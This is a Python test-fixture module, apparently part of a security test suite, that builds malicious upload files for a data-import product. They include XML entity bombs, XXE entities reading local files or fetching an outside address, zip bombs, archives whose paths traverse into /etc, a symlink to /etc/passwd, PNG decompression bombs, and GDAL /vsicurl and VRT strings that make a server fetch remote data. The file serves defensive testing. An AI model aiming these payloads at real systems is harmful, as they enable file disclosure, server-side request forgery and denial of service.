"""Files that pretend, nest, explode and reach outside: made on the spot, for whatever takes files.

Every one is small enough to be sent and holds nothing that any door of the product may take.
"""

from __future__ import annotations

import gzip
import io
import itertools
import json
import struct
import tarfile
import zipfile
import zlib
from typing import TYPE_CHECKING, Any

from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Mapping

    from tests.security.outside import Outside

#: Deeper than Python, GEOS and expat go.
DEEP = 200_000
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"


def pretending(outside: Outside) -> dict[str, bytes]:
    """Files of other kinds, broken ones, and documents that lead elsewhere."""
    jpeg = drawn("JPEG")
    return {
        "blanks": b" \r\n\t" * 500,
        "zero signs": bytes(5000),
        "a program": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8,
        "pdf": b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript >> >> endobj\n%%EOF",
        "page": b"<!doctype html><script>window.__x=1</script>",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.__x=1'/>",
        "old excel": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000),
        "gzip of a gzip": gzip.compress(gzip.compress(bytes(1_000_000))),
        "tar": tar({"../../etc/cron.d/out": b"x"}),
        "database": b"SQLite format 3\0" + bytes(4000),
        "picture cut short": jpeg[: len(jpeg) // 3],
        "picture and zip in one": jpeg[:200] + zipped({"xl/workbook.xml": b"<x/>"}),
        "half a sign": b"Apa;Siapa\n\xc3\x28\xa0\xa1\xff\xfe",
        "utf-16 without a mark": "Apa;Siapa\nA;B\n".encode("utf-16-be"),
        "unknown encoding": b"<?xml version='1.0' encoding='x-nobody'?><data/>",
        "one line": b"a" * 1_500_000,
        "a million columns": b";" * 1_000_000 + b"\n",
        "cells of digits without end": b"Apa;Siapa\n" + b"A;" + b"9 " * 60_000 + b"\n",
        "a letter of many marks": b"Apa;Siapa\nA;e" + "\u0301\u0316".encode() * 30_000,
        "a million rows": b"x\n" * 900_000,
        "quote without end": b'"' + b"a;b\n" * 100_000,
        "quote as separator": b'sep="\nNama;Kode\n',
        **xml(outside),
        **numbers_and_nests(),
        **zips(),
        **leading_elsewhere(outside),
    }


def xml(outside: Outside) -> dict[str, bytes]:
    """Documents with entities and without end."""
    names = [f"e{n}" for n in range(12)]
    bomb = "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in itertools.pairwise(names)
    )
    told = {
        "entity bomb": f'<!DOCTYPE d [<!ENTITY e0 "ha">{bomb}]><data>&e11;</data>',
        "one entity often": f'<!DOCTYPE d [<!ENTITY e "{"a" * 50_000}">]><d>{"&e;" * 9_000}</d>',
        "entity of a file": f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{outside.file}">]><d>&e;</d>',
        "entity elsewhere": f'<!DOCTYPE d [<!ENTITY e SYSTEM "{outside.address}/e">]><d>&e;</d>',
        "dtd of an address": f'<!DOCTYPE d SYSTEM "{outside.address}/d.dtd"><d/>',
        "parameter entity": f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{outside.address}/p">%p;]><d/>',
        "inclusion": '<d xmlns:i="http://www.w3.org/2001/XInclude">'
        f'<i:include href="{outside.file}" parse="text"/></d>',
        "deep elements": "<a>" * 30_000 + "</a>" * 30_000,
    }
    return {name: f"<?xml version='1.0'?>{text}".encode() for name, text in told.items()}


def numbers_and_nests() -> dict[str, bytes]:
    """JSON that nests, and numbers that no field holds."""
    features = b'{"type":"FeatureCollection","features":[%s]}'
    one = b'{"type":"Feature","properties":{"kode":%s},"geometry":{"type":%s,"coordinates":%s}}'
    nested = b"[" * DEEP + b"]" * DEEP
    collection = b'{"type":"GeometryCollection","geometries":[' * 20_000
    return {
        "deep lists": nested,
        "deep lists without end": b"[" * DEEP,
        "deep objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
        **{f"lists {deep} deep": b"[" * deep + b"]" * deep for deep in (900, 3_000, 9_000)},
        **{
            f"report {deep} deep": b'{"reports":[{"details":%s}],"answers":[{"place":%s}]}'
            % ((b"[" * deep + b"]" * deep,) * 2)
            for deep in (900, 3_000, 9_000)
        },
        "deep reports": b'{"reports":%s,"answers":%s}' % (nested, nested),
        "deep coordinates": features % (one % (b'"33.72"', b'"Polygon"', nested)),
        "deep geometries": features % (b'{"type":"Feature","geometry":' + collection),
        "coordinates without end": features
        % (one % (b'"33.72"', b'"Polygon"', b"[[[1e999,NaN],[-Infinity,1],[2,2],[1e999,NaN]]]")),
        "code without end": features % (one % (b"9" * 5000, b'"Point"', b"[1,1]")),
        "numbers without end": b'{"reports":Infinity,"answers":-Infinity,"villages":NaN}',
        "thousands of digits": b'{"reports":%s}' % (b"9" * 6000),
        "no number at all": b'{"format":1e999999999,"version":-0.0,"seed":1e400,"type":NaN}',
        "a name twice": b'{"type":"Feature","type":"FeatureCollection","features":[]}',
        "lone surrogate": b'{"type":"\\ud800","reports":"\\udfff"}',
        "a million columns in json": features
        % (
            b'{"type":"Feature","geometry":null,"properties":{%s}}'
            % b",".join(b'"k%d":0' % n for n in range(100_000))
        ),
    }


def zips() -> dict[str, bytes]:
    """Zips that explode, nest, lie and lead out."""
    flat = zipped({"xl/workbook.xml": bytes(150_000_000)})
    return {
        "zip of nothing": zipped({}),
        "zip bomb": flat,
        "zip in a zip in a zip": zipped({"a.zip": zipped({"b.zip": flat})}),
        "zip of many": zipped({f"xl/{n}.xml": b"" for n in range(3000)}),
        "zip that lies of its size": lying(zipped({"a.shp": bytes(1_000_000)}), 1_000_000, 10),
        "zip that leads out": zipped({"../../../tmp/out.shp": b"x", "xl/workbook.xml": b"<a/>"}),
        "zip with a full path": zipped({"/etc/out.shp": b"x", "xl/workbook.xml": b"<a/>"}),
        "zip with a drive": zipped({"C:\\out.shp": b"x"}),
        "zip with a link": zipped({"batas.shp": b"/etc/passwd"}, mode=0o120777),
        "zip that is locked": locked(zipped({"batas.shp": b"x" * 50, "xl/workbook.xml": b"x"})),
        "zip with two in one place": zipped({"a/batas.shp": b"x", "b/batas.shp": b"y"}),
        "zip cut short": flat[: len(flat) // 2],
        "zip of a strange method": strange(
            zipped({"batas.shp": b"x" * 99, "xl/workbook.xml": b""})
        ),
    }


def leading_elsewhere(outside: Outside) -> dict[str, bytes]:
    """Documents that name other files and addresses, as GDAL and spreadsheets know them."""
    curl, place = f"/vsicurl/{outside.address}/a.geojson", str(outside.file)
    layer = '<OGRVRTLayer name="a"><SrcDataSource>{}</SrcDataSource></OGRVRTLayer>'
    vrt = f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>"
    line = "gdal vector pipeline ! read {} ! write /vsistdout/"
    table: dict[str, Any] = {"type": "Feature", "geometry": None, "properties": {"kode": "33.72"}}
    named = {"type": "name", "properties": {"name": f"file://{place}"}}
    linked = {"type": "link", "properties": {"href": f"{outside.address}/crs", "type": "proj4"}}
    told: Mapping[str, str] = {
        "address as text": curl,
        "path as text": place,
        "zip in an address": f"/vsizip/{curl}",
        "vrt of a file": vrt.format(place),
        "vrt of an address": vrt.format(curl),
        "algorithm of a file": json.dumps(
            {"type": "gdal_streamed_alg", "command_line": line.format(place)}
        ),
        "algorithm of an address": json.dumps(
            {"type": "gdal_streamed_alg", "command_line": line.format(curl), "features": []}
        ),
        "topology": json.dumps({"type": "Topology", "objects": {"a": {"href": curl}}}),
        "system of a file": json.dumps({**table, "crs": named}),
        "system of an address": json.dumps({**table, "crs": linked}),
        "service": f"<WFS_Capabilities><Get href='{outside.address}'/></WFS_Capabilities>",
        "connection": f"PG:host=127.0.0.1 port={outside.port} dbname=x",
        "driver prefix": f"GeoJSON:{curl}",
    }
    links = {"shape in a zip": zipped({"batas.shp": vrt.format(curl).encode()})}
    return {name: text.encode() for name, text in told.items()} | links


def workbook(sheet: str, strings: str = "", before: str = "") -> bytes:
    """Put a sheet's own XML, and that of its texts, into a workbook."""
    kind = f"{_RELATIONS}/"
    begins = f"<?xml version='1.0'?>{before}"
    return zipped(
        {
            "_rels/.rels": f'<Relationships xmlns="{_LINKS}"><Relationship Id="r1"'
            f' Type="{kind}officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode(),
            "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATIONS}"><sheets>'
            '<sheet name="Tim" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_LINKS}">'
            f'<Relationship Id="r1" Type="{kind}worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="r2" Type="{kind}sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>".encode(),
            "xl/worksheets/sheet1.xml": f'{begins}<worksheet xmlns="{_MAIN}">{sheet}'
            "</worksheet>".encode(),
            "xl/sharedStrings.xml": f'{begins}<sst xmlns="{_MAIN}">{strings}</sst>'.encode(),
        }
    )


def one_text_often(rows: int, columns: int, text: str) -> bytes:
    """Write a sheet that packs one text once and shows it in every cell."""
    row = "<row>" + '<c t="s"><v>0</v></c>' * columns + "</row>"
    return workbook(f"<sheetData>{row * rows}</sheetData>", f"<si><t>{text}</t></si>")


def sheets(outside: Outside) -> dict[str, bytes]:
    """Workbooks that look like one of ours until they are unpacked."""
    row = '<row r="{0}"><c r="{1}{0}" t="inlineStr"><is><t>a</t></is></c></row>'
    entity = f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{outside.file}">]>'
    bomb = f'<!DOCTYPE d [<!ENTITY a "{"a" * 10_000}"><!ENTITY b "{"&a;" * 1_000}">]>'
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&{};</t></is></c></row>'
    honest = workbook(f"<sheetData>{row.format(1, 'A')}</sheetData>")
    return {
        "no header": honest,
        "an edge far out": workbook(
            f"<sheetData>{row.format(1, 'A')}{row.format(1048576, 'XFD')}</sheetData>"
        ),
        "a false dimension": workbook(
            f'<dimension ref="A1:XFD1048576"/><sheetData>{row.format(9, "A")}</sheetData>'
        ),
        "entity of a file in a sheet": workbook(
            f"<sheetData>{cell.format('e')}</sheetData>", before=entity
        ),
        "entity bomb in a sheet": workbook(
            f"<sheetData>{cell.format('b')}</sheetData>", before=bomb
        ),
        "one long text in every cell": one_text_often(20_000, 4, "q w e r t y " * 250),
        "one text in every cell": one_text_often(39_000, 10, "panjang sekali " * 4),
        "numbers without end": workbook(
            '<sheetData><row r="1"><c r="A1"><v>1e99999</v></c><c r="B1"><v>NaN</v></c>'
            '<c r="C1" t="d"><v>99999-99-99</v></c></row></sheetData>'
        ),
        "sheet that lies of its size": lying(
            workbook(f"<sheetData>{row.format(1, 'A')}{' ' * 120_000_000}</sheetData>"), 0, 900
        ),
    }


def drawn(form: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """Draw an honest picture."""
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, form)
    return out.getvalue()


def pictures() -> dict[str, bytes]:
    """Pictures that are larger inside than outside, move, or are of kinds we do not take."""
    film = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), (n, 0, 0)) for n in range(0, 250, 50)]
    frames[0].save(film, "PNG", save_all=True, append_images=frames[1:])
    bomb = zlib.compress(bytes(200_000_000), 9)
    small = drawn("PNG")
    return {
        "picture of four thousand million pixels": png(65_535, 65_535, zlib.compress(b"")),
        "picture one pixel high": png(2_000_000_000, 1, zlib.compress(b"")),
        "picture without a size": png(0, 0, zlib.compress(b"")),
        "picture that ends within its pixels": png(1_999, 1_999, bomb[:2_000]),
        "picture whose notes explode": small[:33]
        + chunk(b"zTXt", b"a\0\0" + bomb)
        + chunk(b"iCCP", b"a\0\0" + bomb)
        + small[33:],
        "picture of many scans": scans(drawn("JPEG"), 5_000),
        "film": film.getvalue(),
        "gif": drawn("GIF"),
        "tiff": drawn("TIFF"),
        "bmp": drawn("BMP"),
        "script of a picture": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
        "icon": drawn("ICO"),
    }


def png(width: int, height: int, pixels: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = chunk(b"IHDR", head), chunk(b"IDAT", pixels), chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def chunk(kind: bytes, held: bytes) -> bytes:
    return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))


def scans(jpeg: bytes, count: int) -> bytes:
    start = jpeg.rindex(b"\xff\xda")
    return jpeg[:start] + jpeg[start:-2] * 1 + b"\xff\xda\x00\x02" * count + b"\xff\xd9"


def zipped(files: Mapping[str, bytes], mode: int = 0o100644) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr, entry.compress_type = mode << 16, zipfile.ZIP_DEFLATED
            packed.writestr(entry, content)
    return held.getvalue()


def lying(content: bytes, at_least: int, told: int) -> bytes:
    """Let the list of a zip, and its entries, tell other sizes than the large ones they have."""
    changed = bytearray(content)
    for mark, sizes, names in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        place = changed.find(mark)
        while place >= 0:
            (size,) = struct.unpack_from("<I", changed, place + sizes)
            if size >= max(at_least, 10_000):
                struct.pack_into("<I", changed, place + sizes, told)
            place = changed.find(mark, place + names)
    return bytes(changed)


def locked(content: bytes) -> bytes:
    """Let every entry say that a password locks it."""
    return _marked(content, {b"PK\x01\x02": 8, b"PK\x03\x04": 6}, 1)


def strange(content: bytes) -> bytes:
    """Let every entry say that it is packed in a way nobody knows."""
    return _marked(content, {b"PK\x01\x02": 10, b"PK\x03\x04": 8}, 77)


def _marked(content: bytes, places: Mapping[bytes, int], value: int) -> bytes:
    changed = bytearray(content)
    for mark, offset in places.items():
        place = changed.find(mark)
        while place >= 0:
            struct.pack_into("<H", changed, place + offset, value)
            place = changed.find(mark, place + 4)
    return bytes(changed)


def tar(files: Mapping[str, bytes]) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as packed:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            packed.addfile(entry, io.BytesIO(content))
    return held.getvalue()
